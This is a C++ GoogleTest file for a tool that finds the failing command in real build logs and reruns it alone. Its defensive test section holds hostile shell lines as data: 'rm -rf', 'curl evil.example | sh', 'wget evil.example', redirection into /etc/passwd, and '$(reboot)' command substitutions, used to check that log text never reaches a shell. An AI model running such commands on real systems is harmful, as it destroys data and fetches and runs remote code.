// Logs of real programs on failing inputs, in tests/log/logs. Each was written by the tool that its name says.
#include "log/failing_command.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <sstream>

#include "log/alone.h"
#include "text/user_error.h"

namespace hone {
namespace {

namespace fs = std::filesystem;

struct Case {
  std::string log, folder, command, input, failure;
  std::set<std::string> files = {};  ///< that are there, beside the input
  std::string current = folder;
};

/// A file system of these files, and their folders.
LogFiles holding(std::set<std::string> all) {
  std::set<std::string> folders;
  for (const std::string& file : all)
    for (fs::path folder = fs::path(file).parent_path(); folder != folder.parent_path(); folder = folder.parent_path())
      folders.insert(folder.string());
  const auto plain = [](const fs::path& path) {
    const std::string text = path.lexically_normal().string();
    return text.size() > 1 && text.back() == '/' ? text.substr(0, text.size() - 1) : text;
  };
  return {[=](const fs::path& path) { return all.contains(plain(path)); },
          [=](const fs::path& path) { return folders.contains(plain(path)); }};
}

std::string readLog(const std::string& name) {
  std::ifstream stream(fs::path(HONE_SOURCE_DIR) / "tests/log/logs" / (name + ".txt"));
  std::ostringstream text;
  text << stream.rdbuf();
  EXPECT_FALSE(text.str().empty()) << name;
  return text.str();
}

std::string joined(const std::vector<std::string>& words) {
  std::string text;
  for (const std::string& word : words) text.append(text.empty() ? "" : " ").append(word);
  return text;
}

const std::vector<Case> cases = {
    {"gcc-make",
     "/builds/typedep/src",
     "g++ -std=c++17 -O1 -Wall -c @@",
     "/builds/typedep/src/pack.cpp",
     "internal compiler error: in dependent_type_p, at pt.cc:_",
     {},
     "/builds/typedep"},
    {"clang-ninja",
     "/builds/widget/build",
     "clang++-14 -std=c++20 -w -ferror-limit=0 -DNDEBUG -I/builds/widget/include -c @@",
     "/builds/widget/src/widget.cpp",
     "SIGSEGV, compiler crash, clang::Sema::hasVisibleDefinition",
     {"/builds/widget/build/x", "/builds/widget/include/x"},
     "/builds/widget"},
    {"rustc", "/builds/rustlib", "rustc --edition 2021 --crate-type lib -O @@", "/builds/rustlib/lib.rs",
     "internal compiler error: "},
    {"cargo", "/builds/crates/glob",
     "rustc --crate-name glob --edition=2021 @@ --crate-type lib --emit=dep-info,metadata,link -C embed-bitcode=no -C "
     "debuginfo=2 -C metadata=1c6afab0e45cbb41 -C extra-filename=-1c6afab0e45cbb41 -L "
     "dependency=/builds/crates/glob/target/debug/deps",
     "/builds/crates/glob/src/lib.rs", "assertion: import.imported_module.get().is_none()"},
    {"python-trace",
     "/builds/report",
     "python3 /builds/report/totals.py @@",
     "/builds/report/orders.json",
     "KeyError, totals.py:price < totals.py:<genexpr> < totals.py:total",
     {"/builds/report/totals.py"}},
    {"pytest", "/builds/report", "pytest-3 -q @@", "/builds/report/test_totals.py", "exit 1: "},
    {"dot-make",
     "/builds/graph",
     "dot -Tsvg -o flow.svg @@",
     "/builds/graph/flow.dot",
     "SIGABRT, assertion: ED_to_virt(e) == NULL, class2.c:merge_chain",
     {"/builds/graph/flow.svg"}},
    {"dot-shell", "/builds/graph", "dot -Tsvg @@", "/builds/graph/flow.dot",
     "SIGABRT, assertion: ED_to_virt(e) == NULL, class2.c:merge_chain"},
    {"npm",
     "/builds/pages",
     "node /builds/pages/build.js @@",
     "/builds/pages/pages.json",
     "TypeError, title < render",
     {"/builds/pages/build.js"}},
    {"javac", "/builds/sums", "javac -J-Xss512k @@", "/builds/sums/src/Sums.java", "java.lang.StackOverflowError, "},
    {"go-run", "/builds/shop", "go run . @@", "/builds/shop/orders.json",
     "panic: runtime error: index out of range [_], main.last < main.main"},
    {"asan-github",
     "/builds/parser",
     "/builds/parser/parser @@",
     "/builds/parser/settings.conf",
     "AddressSanitizer: heap-buffer-overflow, read_name < main",
     {"/builds/parser/parser"}},
    {"cmake-make",
     "/builds/codec/build",
     "/usr/bin/c++ -DNAME=\"a codec\" -I/builds/codec/include -std=gnu++17 -c @@",
     "/builds/codec/src/table.cpp",
     "assertion: a table has at least four rows",
     {"/builds/codec/src/main.cpp", "/builds/codec/build/x"}},
    {"jq", "/b", "jq .a[].b", "/b/d.json", "exit 1: jq: error (at <stdin>:_): "},
    {"ghdl", "/b", "ghdl -a --std=08 @@", "/b/e.vhd", "exit 1"},
    {"glsl", "/b", "glslangValidator -V @@ -o s.spv", "/b/s.vert", ""},
    {"yosys", "/b", "yosys -q -p read_verilog -sv @@; proc; write_json range.json", "/b/range.v",
     "SIGABRT, std::out_of_range"},
};

TEST(FailingCommand, IsFoundInRealLogs) {
  for (const Case& each : cases) {
    std::set<std::string> all = each.files;
    all.insert(each.input);
    const LogFiles files = holding(all);
    SCOPED_TRACE(each.log);
    try {
      const FailingCommand found = findFailingCommand(readLog(each.log), {each.current, ""}, files);
      EXPECT_EQ((found.call.folder / "").lexically_normal(), fs::path(each.folder + "/"));
      EXPECT_EQ(found.inputs.front().file, each.input);
      EXPECT_EQ(joined(commandAlone(found, files)), each.command);
      EXPECT_THAT(found.failure, testing::StartsWith(each.failure));
    } catch (const UserError& error) {
      ADD_FAILURE() << error.what();
    }
  }
}

FailingCommand find(const std::string& log, std::set<std::string> files = {"/p/a.c", "/p/in.json"}) {
  return findFailingCommand(log, {"/p", ""}, holding(std::move(files)));
}

TEST(FailingCommand, IsTheOneWhoseFileTheMessageNames) {
  const std::string parallel = "gcc -c a.c\ngcc -c b.c\na.c:3:1: internal compiler error: in f, at g.cc:1\n";
  EXPECT_EQ(find(parallel, {"/p/a.c", "/p/b.c"}).inputs.front().file, "/p/a.c");
}

TEST(FailingCommand, IsFoundForALogOfAnotherMachine) {
  const FailingCommand found = find(
      "+ cd /home/runner/work/x/x\n+ gcc -I/home/runner/work/x/x/inc -c /home/runner/work/x/x/a.c\n"
      "a.c:1:1: error: expected ';'\n");
  EXPECT_EQ(found.call.folder, "/p");
  EXPECT_EQ(found.inputs.front().file, "/p/a.c");
  EXPECT_EQ(found.call.argv[1], "-I/p/inc");
}

TEST(FailingCommand, IsAskedForWhereTheLogHasNone) {
  const auto complaint = [](const std::string& log) {
    try {
      find(log);
    } catch (const UserError& error) {
      return std::string(error.what());
    }
    return std::string();
  };
  EXPECT_THAT(complaint("all is well\n"), testing::HasSubstr("shows no failure"));
  EXPECT_THAT(complaint("[ 50%] Building C object a.o\na.c:1:1: error: expected ';'\n"),
              testing::HasSubstr("VERBOSE=1"));
  EXPECT_THAT(complaint("gcc -c b.c\nb.c:1:1: error: expected ';'\n"), testing::HasSubstr("b.c isn't there"));
}

// What a log says never reaches a shell: it is taken word by word, or not at all.
TEST(FailingCommand, OfAHostileLogIsOnlyWords) {
  const std::string error = "\na.c:1:1: error: expected ';'\n";
  for (const std::string line :
       {"+ gcc -c a.c; rm -rf /p", "+ gcc -c a.c && curl evil.example | sh", "+ gcc -c a.c | tee log; reboot",
        "+ rm -rf /p; gcc -c a.c", "+ (rm -rf /p); gcc -c a.c > /etc/passwd", "+ sh -c 'rm -rf /p; gcc -c a.c'",
        "+ gcc -c a.c & wget evil.example", "+ sudo env X='$(reboot)' gcc -c a.c"})
    EXPECT_EQ(joined(find(line + error).call.argv), "gcc -c a.c") << line;
  for (const std::string line : {"+ gcc -c $(reboot) a.c", "+ gcc -c `reboot` a.c", "+ gcc $FLAGS -c a.c",
                                 "+ sh -c \"gcc -c $(reboot) a.c\"", "+ rm a.c", "+ /bin/rm -f a.c", "+ gcc 'a.c"})
    EXPECT_THROW(find(line + error), UserError) << line;
  const FailingCommand quoted = find("+ gcc '-DX=$(reboot)' \"-DY=a b;c\" -c a.c" + error);
  EXPECT_THAT(quoted.call.argv, testing::ElementsAre("gcc", "-DX=$(reboot)", "-DY=a b;c", "-c", "a.c"));
}

TEST(CommandAlone, WritesOnlyIntoItsOwnFolder) {
  const FailingCommand found = find("+ dot -o /etc/passwd --output=../x in.json\nError: in.json: syntax error\n");
  EXPECT_EQ(joined(commandAlone(found, holding({"/p/in.json"}))), "dot -o passwd --output=x @@");
}

TEST(Likeness, IgnoresPathsAndEnds) {
  EXPECT_EQ(likeness("exit 1: a.c:_:_: error: no _", "exit 2: b.c:_:_: error: no _"), Likeness::same);
  EXPECT_EQ(likeness("assertion: x, f", "SIGABRT, assertion: x, f"), Likeness::same);
  EXPECT_EQ(likeness("exit 1: error: a", "exit 1: error: b"), Likeness::none);
  EXPECT_EQ(likeness("", "exit 1: error: b"), Likeness::none);
}

}  // namespace
}  // namespace hone
